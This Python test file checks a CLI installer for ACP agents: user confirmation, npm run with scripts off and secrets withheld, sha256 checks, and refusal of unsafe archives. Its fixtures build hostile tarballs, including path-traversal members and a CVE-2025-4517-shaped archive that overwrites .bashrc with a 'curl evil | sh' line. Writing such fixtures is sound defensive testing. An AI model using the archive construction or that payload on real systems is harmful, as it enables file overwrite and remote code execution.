"""`lfg agents --registry` and `lfg agents install ID` against an ACP registry served for real on
127.0.0.1: the list with what is installed, the cache and the bundled snapshot when the registry is
unreachable, npx and binary installs with their checks (the person's yes, sha256, Node's version),
no silent upgrade, and archives that would write outside the agent's folder refused."""

from __future__ import annotations

import io
import json
import os
import subprocess
import tarfile
from pathlib import Path

import pytest

from lfgtui.agents_registry.index import this_platform
from tests.support.acp_registry import NODE_VERSION, Machine, binary_agent, npx_agent, served

UNREACHABLE = "http://127.0.0.1:9/registry.json"
"""The discard port: nothing listens, so the connection is refused at once."""


def test_the_served_registry_is_listed_beside_what_is_installed_with_its_words_inert(
    machine: Machine, tmp_path: Path
) -> None:
    with served(tmp_path / "registry") as registry:
        registry.publish(
            npx_agent("codex-acp", "2.6.0", "@agentclientprotocol/codex-acp@2.6.0", name="Codex"),
            npx_agent("shouty", "1.0.0", "shouty@1.0.0", description="red \x1b[31malert\x1b[0m text"),
            {
                "id": "Bad/Id",
                "name": "x",
                "version": "1.0.0",
                "description": "x",
                "distribution": {"npx": {"package": "x"}},
            },
        )
        done = machine.lfg(registry.index, "--registry")
        as_json = json.loads(machine.lfg(registry.index, "--registry", "--json").stdout)
    assert done.returncode == 0, done.stderr
    assert f"ACP registry: the registry at {registry.index}, fetched " in done.stdout
    assert (
        "codex-acp  Codex 2.6.0  [npx]  lfg's `codex` provider runs the same CLI, not installed"
        in done.stdout
    )
    assert "\x1b" not in done.stdout and "alert" in done.stdout
    assert "agent #3 ('Bad/Id'): field 'id'" in done.stderr
    assert as_json["source"] == "fetched"
    assert [a["id"] for a in as_json["agents"]] == ["codex-acp", "shouty"]
    assert as_json["agents"][0]["provider"] == "codex"


def test_an_unreachable_registry_falls_back_to_the_cached_copy_then_the_bundled_snapshot(
    machine: Machine, tmp_path: Path
) -> None:
    snapshot = machine.lfg(UNREACHABLE, "--registry")
    assert snapshot.returncode == 0, snapshot.stderr
    assert "the snapshot bundled with lfg of 2026-02-07 (the registry at " in snapshot.stdout
    assert "github-copilot  GitHub Copilot 1.425.0  [npx]" in snapshot.stdout
    with served(tmp_path / "registry") as registry:
        registry.publish(npx_agent("only-served", "3.1.4", "only-served@3.1.4"))
        fetched = json.loads(machine.lfg(registry.index, "--registry", "--json").stdout)
        url = registry.index
    assert fetched["source"] == "fetched"
    cached = machine.lfg(url, "--registry")  # the server is gone now
    assert cached.returncode == 0, cached.stderr
    assert f"a cached copy of {fetched['date']} (the registry at {url} could not be read:" in cached.stdout
    assert "only-served  Only-Served 3.1.4" in cached.stdout


def test_an_npx_agent_is_installed_only_after_the_person_accepts_the_exact_command(
    machine: Machine, tmp_path: Path
) -> None:
    package = "@agentclientprotocol/codex-acp@2.6.0"
    folder = machine.agents / "codex-acp" / "2.6.0"
    with served(tmp_path / "registry") as registry:
        registry.publish(npx_agent("codex-acp", "2.6.0", package, args=["--acp"]))
        declined = machine.lfg(registry.index, "install", "codex-acp", answer="n\n")
        assert declined.returncode == 1 and "Nothing installed." in declined.stdout
        assert machine.npm_calls() == [] and machine.installed() == {}
        accepted = machine.lfg(registry.index, "install", "codex-acp", answer="y\n")
        listed = machine.lfg(registry.index, "--registry")
    assert accepted.returncode == 0, accepted.stderr
    npm = machine.bin / "npm"
    assert f"lfg will run: {npm} install --ignore-scripts --prefix {folder} {package}" in accepted.stdout
    assert "checksum: the ACP registry gives none for a package" in accepted.stdout
    assert machine.npm_calls() == [["install", "--ignore-scripts", "--prefix", str(folder), package]]
    record = machine.installed()["codex-acp"]
    program = folder / "node_modules" / ".bin" / "fake-agent"
    assert record["command"] == [str(program), "--acp"]
    assert (record["distribution"], record["source"], record["provider"]) == ("npx", package, "codex")
    assert record["registry"].startswith(f"{registry.index} (fetched ")
    assert subprocess.run([str(program)], capture_output=True, text=True).stdout == "agent\n"
    assert f"codex-acp  Codex-Acp 2.6.0  [npx]  installed 2.6.0 (npx, {folder})" in listed.stdout
    snippet = f"[providers.codex]\ncommand = {json.dumps([str(program), '--acp'])}\n"
    assert f"To run it as lfg's `codex`, in config.toml:\n{snippet}" in accepted.stdout
    machine.config.write_text(snippet)  # what lfg printed, taken as it is: the built-in codex, moved
    assert (
        f"codex  (built-in, changed in config)  installed: {program}"
        in machine.lfg(UNREACHABLE, "codex").stdout
    )


def test_a_uvx_agent_is_recorded_with_the_command_uv_runs_and_nothing_run_now(
    machine: Machine, tmp_path: Path
) -> None:
    (machine.bin / "uvx").write_text("#!/bin/sh\nexit 1\n")
    (machine.bin / "uvx").chmod(0o755)
    with served(tmp_path / "registry") as registry:
        agent = npx_agent("pyagent", "0.4.1", "pyagent==0.4.1", cmd="pyagent-acp", args=["--acp"])
        agent["distribution"] = {"uvx": agent["distribution"]["npx"]}
        registry.publish(agent)
        done = machine.lfg(registry.index, "install", "pyagent", "--yes")
    assert done.returncode == 0, done.stderr
    assert "lfg runs nothing now; uv downloads the package when the agent first starts" in done.stdout
    command = ["uvx", "--from", "pyagent==0.4.1", "pyagent-acp", "--acp"]
    assert machine.installed()["pyagent"]["command"] == command
    assert f'[providers.pyagent]\nkind = "acp"\ncommand = {json.dumps(command)}' in done.stdout
    assert machine.npm_calls() == []


def test_an_npx_agent_needing_a_newer_node_is_refused_naming_both_versions(
    machine: Machine, tmp_path: Path
) -> None:
    machine.engines.write_text(">=22")
    with served(tmp_path / "registry") as registry:
        registry.publish(npx_agent("claude-acp", "0.101.0", "@agentclientprotocol/claude-agent-acp@0.101.0"))
        done = machine.lfg(registry.index, "install", "claude-acp", "--yes")
    assert done.returncode == 1
    assert (
        f"@agentclientprotocol/claude-agent-acp needs Node >=22 (its package.json's engines.node); "
        f"the node on the PATH is {NODE_VERSION}" in done.stderr
    )
    assert not (machine.agents / "claude-acp" / "0.101.0").exists() and machine.installed() == {}


def test_npm_is_given_only_the_allowlisted_environment_never_lfgs_keys(
    machine: Machine, tmp_path: Path
) -> None:
    machine.env |= {
        "OPENAI_API_KEY": "sk-secret",
        "ANTHROPIC_API_KEY": "sk-ant-secret",
        "AWS_SECRET_ACCESS_KEY": "secret",
        "HTTPS_PROXY": "http://127.0.0.1:9",
        "npm_config_cache": str(tmp_path / "npm-cache"),
    }
    with served(tmp_path / "registry") as registry:
        registry.publish(npx_agent("codex-acp", "2.6.0", "@agentclientprotocol/codex-acp@2.6.0"))
        done = machine.lfg(registry.index, "install", "codex-acp", "--yes")
    assert done.returncode == 0, done.stderr
    (given,) = machine.npm_environments()
    given.remove("LC_CTYPE")  # set by Python's locale coercion (PEP 538) in lfg, and allowlisted
    assert given == ["HOME", "HTTPS_PROXY", "PATH", "npm_config_cache"]
    assert "npm's environment: PATH, HOME, locale, temporary folders, proxies, " in done.stdout


SCRIPTED_PACKAGE = {
    "package.json": json.dumps(
        {
            "name": "scripted-agent",
            "version": "1.0.0",
            "bin": {"scripted-agent": "agent.js"},
            "scripts": {"postinstall": "node record.js"},
        }
    ),
    "agent.js": "#!/usr/bin/env node\nconsole.log('agent')\n",
    "record.js": "require('fs').writeFileSync(require('path').join(process.env.HOME, 'postinstall-ran'), "
    "JSON.stringify(Object.keys(process.env)))\n",
}
"""An npm package whose postinstall script writes the names of the variables it was given in HOME."""


@pytest.mark.parametrize(
    ("options", "answer", "ran"),
    [
        ([], "y\nn\n", False),
        (["--yes"], "", False),
        ([], "y\ny\n", True),
        (["--yes", "--allow-scripts"], "", True),
    ],
    ids=["declined", "yes-alone", "accepted", "allow-scripts"],
)
def test_a_real_npm_installs_with_scripts_off_and_runs_them_only_when_the_person_says_so(
    machine: Machine, tmp_path: Path, options: list[str], answer: str, ran: bool
) -> None:
    """The real npm, from an npm registry served on 127.0.0.1: the package's postinstall is listed
    with its command, and runs (with no key in its environment) only on the person's yes."""
    folder = machine.agents / "scripted" / "1.0.0"
    machine.env["OPENAI_API_KEY"] = "sk-secret"
    with served(tmp_path / "registry") as registry:
        machine.use_real_npm(registry, tmp_path / "npm-cache")
        registry.npm_package("scripted-agent", "1.0.0", SCRIPTED_PACKAGE)
        registry.publish(npx_agent("scripted", "1.0.0", "scripted-agent@1.0.0"))
        done = machine.lfg(registry.index, "install", "scripted", *options, answer=answer)
    assert done.returncode == 0, done.stderr
    marker = tmp_path / "postinstall-ran"
    assert marker.exists() == ran
    assert (
        "The installed packages have 1 install script(s), not run:\n"
        "  scripted-agent postinstall: node record.js\n" in done.stdout
    )
    if ran:
        given = json.loads(marker.read_text())
        assert "PATH" in given and "OPENAI_API_KEY" not in given
    else:
        assert (
            f"Not run: the agent may need them to start; `npm rebuild --prefix {folder}` runs them."
            in done.stdout
        )
    program = folder / "node_modules" / ".bin" / "scripted-agent"
    assert machine.installed()["scripted"]["command"] == [str(program)]


@pytest.mark.parametrize("checksum", ["good", "none", "bad"])
def test_a_binary_agent_is_installed_when_its_sha256_matches_or_none_is_given_and_refused_when_it_does_not(
    machine: Machine, tmp_path: Path, checksum: str
) -> None:
    folder = machine.agents / "tiny" / "1.0.0"
    with served(tmp_path / "registry") as registry:
        digest = registry.archive("tiny.tar.gz", {"bin/agent": b'#!/bin/sh\necho tiny "$@"\n'})
        sha256 = {"good": digest, "none": None, "bad": "0" * 64}[checksum]
        archive = f"{registry.url}/tiny.tar.gz"
        registry.publish(binary_agent("tiny", "1.0.0", this_platform(), archive, sha256))
        done = machine.lfg(registry.index, "install", "tiny", "--yes")
    assert f"lfg will download: {archive}" in done.stdout
    if checksum == "bad":
        assert done.returncode == 1
        assert f"the download's sha256 is {digest}, not the registry's {'0' * 64}: refused" in done.stderr
        assert not (machine.agents / "tiny").exists()
        assert machine.installed() == {}
        return
    assert done.returncode == 0, done.stderr
    if checksum == "none":
        assert "checksum: NONE given by the registry: lfg cannot verify what it downloads" in done.stdout
    else:
        assert f"checksum: sha256 {digest}, verified before anything is unpacked" in done.stdout
    record = machine.installed()["tiny"]
    assert record["command"] == [str(folder / "bin" / "agent"), "acp"]
    assert record["sha256"] == sha256 and record["source"] == archive
    ran = subprocess.run(record["command"], capture_output=True, text=True)
    assert ran.stdout == "tiny acp\n"


def test_another_version_is_installed_only_with_upgrade(machine: Machine, tmp_path: Path) -> None:
    with served(tmp_path / "registry") as registry:
        digest = registry.archive("tiny.tar.gz", {"bin/agent": b"#!/bin/sh\necho tiny\n"})
        archive = f"{registry.url}/tiny.tar.gz"
        registry.publish(binary_agent("tiny", "1.0.0", this_platform(), archive, digest))
        assert machine.lfg(registry.index, "install", "tiny", "--yes").returncode == 0
        again = machine.lfg(registry.index, "install", "tiny", "--yes")
        registry.publish(binary_agent("tiny", "1.1.0", this_platform(), archive, digest))
        refused = machine.lfg(registry.index, "install", "tiny", "--yes")
        assert machine.installed()["tiny"]["version"] == "1.0.0"
        upgraded = machine.lfg(registry.index, "install", "tiny", "--yes", "--upgrade")
    assert again.returncode == 0 and "tiny 1.0.0 is already installed" in again.stdout
    assert refused.returncode == 1
    assert "tiny 1.0.0 is installed" in refused.stderr and "add --upgrade to install 1.1.0" in refused.stderr
    assert "lfg will download" not in refused.stdout
    assert upgraded.returncode == 0, upgraded.stderr
    assert machine.installed()["tiny"]["version"] == "1.1.0"


@pytest.mark.parametrize(
    ("members", "links"),
    [
        ({"bin/agent": b"ok", "../../escaped": b"outside"}, {}),
        ({"/tmp/absolute-escape": b"outside", "bin/agent": b"ok"}, {}),
        ({"bin/agent": b"ok"}, {"bin/away": "../../../escaped"}),
    ],
    ids=["dot-dot", "absolute", "symlink"],
)
def test_an_archive_reaching_outside_the_agent_folder_is_refused_and_nothing_is_installed(
    machine: Machine, tmp_path: Path, members: dict[str, bytes], links: dict[str, str]
) -> None:
    with served(tmp_path / "registry") as registry:
        digest = registry.archive("evil.tar.gz", members, links)
        registry.publish(
            binary_agent("evil", "1.0.0", this_platform(), f"{registry.url}/evil.tar.gz", digest)
        )
        done = machine.lfg(registry.index, "install", "evil", "--yes")
    assert done.returncode == 1
    assert "outside the agent's folder" in done.stderr
    assert machine.installed() == {}
    assert not (machine.agents / "evil" / "1.0.0").exists()
    assert not any(p.name == "escaped" for p in tmp_path.rglob("escaped"))


@pytest.mark.parametrize(
    ("links", "hard_links", "refusal"),
    [
        ({"bin/tool": "agent"}, {}, "member 'bin/tool' is a symbolic link (to 'agent')"),
        ({}, {"bin/copy": "bin/agent"}, "member 'bin/copy' is a hard link (to 'bin/agent')"),
    ],
    ids=["symlink-inside", "hard-link-inside"],
)
def test_a_tar_with_any_link_is_refused_even_one_that_stays_inside(
    machine: Machine, tmp_path: Path, links: dict[str, str], hard_links: dict[str, str], refusal: str
) -> None:
    with served(tmp_path / "registry") as registry:
        digest = registry.archive("linked.tar.gz", {"bin/agent": b"#!/bin/sh\n"}, links, hard_links)
        archive = f"{registry.url}/linked.tar.gz"
        registry.publish(binary_agent("linked", "1.0.0", this_platform(), archive, digest))
        done = machine.lfg(registry.index, "install", "linked", "--yes")
    assert done.returncode == 1
    assert done.stderr == (
        f"lfg: refused: {refusal}; lfg unpacks no links from an archive "
        "(one could lead outside the agent's folder): nothing installed\n"
    )
    assert machine.installed() == {} and not (machine.agents / "linked").exists()


def _realpath_limit_archive(dest: Path, up: int) -> bytes:
    """A .tar.gz shaped like CVE-2025-4517's: directories `d…d` nested 16 deep, reached through a
    chain of one-letter symlinks, so that the real path of a last link passes PATH_MAX and
    `os.path.realpath` stops following links there; that link climbs back to `dest`, and `escape`
    climbs `up` folders further. Hard links through `escape` then reach `.bashrc` and a file in a
    sibling folder, and members written on them overwrite both; `escape/newfile` adds a file.
    Lexically, every name and link stays inside `dest`."""
    steps = "abcdefghijklmnop"
    component = "d" * ((os.pathconf(dest.anchor, "PC_PATH_MAX") - len(str(dest)) - 1) // (len(steps) + 1))
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:

        def add(name: str, kind: bytes = tarfile.REGTYPE, target: str = "", content: bytes = b"") -> None:
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.size = kind, target, len(content)
            info.mode = 0o755 if kind != tarfile.SYMTYPE else 0o777
            tar.addfile(info, io.BytesIO(content) if content else None)

        add("bin/agent", content=b"#!/bin/sh\necho agent\n")
        path = ""
        for step in steps:
            add(os.path.join(path, component), tarfile.DIRTYPE)
            add(os.path.join(path, step), tarfile.SYMTYPE, component)
            path = os.path.join(path, component)
        last = os.path.join(*steps, "l" * 254)
        add(last, tarfile.SYMTYPE, os.path.join(*[".."] * len(steps)))
        add("escape", tarfile.SYMTYPE, os.path.join(last, *[".."] * up))
        add("bashrc", tarfile.LNKTYPE, "escape/.bashrc")
        add("bashrc", content=b"curl evil | sh\n")
        add("notes", tarfile.LNKTYPE, "escape/sibling/notes.txt")
        add("notes", content=b"overwritten\n")
        add("escape/newfile", content=b"new\n")
    return buffer.getvalue()


def _outside(tmp_path: Path, skipped: tuple[Path, ...]) -> dict[str, bytes]:
    """Every file under `tmp_path` but in the `skipped` folders (lfg's own), with its content; links
    are not followed (what an archive unpacked is walked without leaving it)."""
    found: dict[str, bytes] = {}
    for folder, subfolders, files in os.walk(tmp_path):
        subfolders[:] = [name for name in subfolders if Path(folder, name) not in skipped]
        found |= {os.path.join(folder, name): Path(folder, name).read_bytes() for name in files}
    return found


def test_a_cve_2025_4517_shaped_archive_with_its_right_sha256_writes_nothing_outside_and_is_refused(
    machine: Machine, tmp_path: Path
) -> None:
    """Links in a tar are refused whole, whatever Python's `data` filter would have let through on
    this machine's patch level (3.11.7 and any 3.11 before 3.11.13 follow this archive out)."""
    (tmp_path / ".bashrc").write_text("export PATH=$HOME/bin:$PATH\n")  # HOME is tmp_path
    (tmp_path / "sibling").mkdir()
    (tmp_path / "sibling" / "notes.txt").write_text("mine\n")
    staging = machine.agents / "evil" / ".download-12345678" / "agent"  # tempfile's 8-letter names
    up = len(staging.relative_to(tmp_path).parts)  # from the folder it unpacks into up to HOME
    with served(tmp_path / "registry") as registry:
        digest = registry.file("evil.tar.gz", _realpath_limit_archive(staging.resolve(), up))
        registry.publish(
            binary_agent("evil", "1.0.0", this_platform(), f"{registry.url}/evil.tar.gz", digest)
        )
        before = _outside(tmp_path, (machine.agents, machine.cache))
        done = machine.lfg(registry.index, "install", "evil", "--yes")
    assert _outside(tmp_path, (machine.agents, machine.cache)) == before
    assert (tmp_path / ".bashrc").read_text() == "export PATH=$HOME/bin:$PATH\n"
    assert (tmp_path / "sibling" / "notes.txt").read_text() == "mine\n"
    assert not (tmp_path / "newfile").exists()
    assert done.returncode == 1, done.stdout
    assert "Installed" not in done.stdout
    refusal = done.stderr.strip()
    assert "\n" not in refusal and "Traceback" not in refusal
    assert refusal.startswith("lfg: refused: member 'a' is a symbolic link"), refusal
    assert machine.installed() == {}
    assert not (machine.agents / "evil").exists()
